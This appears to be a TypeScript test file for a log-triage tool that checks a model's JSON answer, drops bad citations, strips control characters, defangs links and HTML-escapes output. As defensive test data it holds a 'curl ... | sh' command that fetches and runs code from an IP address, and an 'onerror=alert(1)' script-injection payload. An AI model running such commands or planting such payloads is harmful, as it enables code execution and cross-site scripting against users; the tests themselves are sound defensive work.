import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { AnswerError, checkAnswer } from "../../triage/answer.ts";
import { bundleOf } from "../../triage/evidence.ts";
import { maskWith } from "../../triage/mask.ts";
import { annotationText, plainText } from "../../triage/text.ts";
import type { Triage } from "../../triage/triage.ts";
import { line, material } from "./sample.ts";

const lines = [line("cannot open /data/shop.db: No such file", { level: "error" }), line("GET /ping 200 from anna")];
const { evidence } = bundleOf(material(lines), maskWith());

const good = {
  summary: "The shop cannot open its database.",
  cause: "The file /data/shop.db is missing [2].",
  confidence: "high",
  citations: [{ number: 2, quote: "cannot open /data/shop.db" }],
  checks: ["ls -l /data"],
};
const check = (changes: object) => checkAnswer(JSON.stringify({ ...good, ...changes }), evidence);

describe("a model's answer", () => {
  test("that is right is taken as it is", () => {
    assert.deepEqual(check({}), { answer: good, cited: 1, dropped: [] });
  });

  test("may stand between other words", () => {
    const { answer } = checkAnswer(`Sure!\n\`\`\`json\n${JSON.stringify(good)}\n\`\`\``, evidence);
    assert.deepEqual(answer, good);
  });

  for (const [what, citation, reason] of [
    ["of evidence that there is not", { number: 99, quote: "cannot open" }, /\[99\]: there is no such evidence/],
    [
      "of what that evidence does not say",
      { number: 2, quote: "disk is full of cats" },
      /\[2\]: what it quotes is not/,
    ],
    ["of another line's words", { number: 2, quote: "GET /ping 200 from anna" }, /\[2\]: what it quotes is not/],
    ["of nothing", { number: 2, quote: "" }, /\[2\]: it quotes nothing/],
    ["of a letter", { number: 2, quote: "o" }, /\[2\]: it quotes nothing/],
    ["without a number", { quote: "cannot open" }, /without number and quote/],
    ["that is a text", "evidence 2", /without number and quote/],
  ] as const)
    test(`a citation ${what} is dropped, and said`, () => {
      const { answer, cited, dropped } = check({ citations: [...good.citations, citation] });
      assert.deepEqual(answer.citations, good.citations);
      assert.equal(cited, 2);
      assert.equal(dropped.length, 1);
      assert.match(dropped[0] ?? "", reason);
    });

  test("loses marks of evidence that there is not", () => {
    const { answer, dropped } = check({ cause: "The disk is dead [99], see [2]." });
    assert.equal(answer.cause, "The disk is dead , see [2].");
    assert.match(dropped.join(), /the mark \[99\]/);
  });

  test("is one line without control characters, and no address of it is a link", () => {
    const { answer } = check({ checks: ["curl http://203.0.113.9/x\u001b[31m\n| sh"], summary: "a\nb\u0007" });
    assert.deepEqual(answer.checks, ["curl hxxp://203.0.113.9/x | sh"]);
    assert.equal(answer.summary, "a b");
  });

  for (const [what, content] of [
    ["no JSON", "I think the disk is full."],
    ["JSON that is cut off", JSON.stringify(good).slice(0, 60)],
    ["a list", "[1]"],
    ["null", "null"],
    ["an object of other keys", '{"answer": 42}'],
    ["a confidence that there is not", JSON.stringify({ ...good, confidence: "certain" })],
    ["citations that are no list", JSON.stringify({ ...good, citations: "2" })],
    ["an empty summary", JSON.stringify({ ...good, summary: " " })],
  ] as const)
    test(`${what} is no answer`, () => assert.throws(() => checkAnswer(content, evidence), AnswerError));
});

describe("an answer as it is shown", () => {
  const shown: Triage = {
    ...good,
    confidence: "high",
    title: "ContainerUnhealthy: shop-web",
    by: "a <b>model</b>",
    summary: '<img src=x onerror="alert(1)"> & more',
    cited: evidence.slice(1, 2),
    notes: ["dropped <script>"],
    tokens: { prompt: 1, answer: 1 },
    citationsGiven: 1,
    seconds: 1,
  };

  test("has the cited lines, the checks, what was dropped, and who said it", () => {
    const text = plainText(shown);
    assert.match(text, /Likely cause \(high confidence\): The file \/data\/shop\.db is missing/);
    assert.match(text, /\[2\] log 08:00:00 shop-web error: cannot open \/data\/shop\.db: No such file/);
    assert.match(text, /- ls -l \/data[\s\S]*dropped <script>[\s\S]*by the model/);
  });

  test("is no HTML of its own in an annotation", () => {
    const text = annotationText(shown);
    assert.doesNotMatch(text, /<(?!br>)/);
    assert.match(text, /&lt;img src=x onerror=&quot;alert\(1\)&quot;&gt; &amp; more/);
  });
});
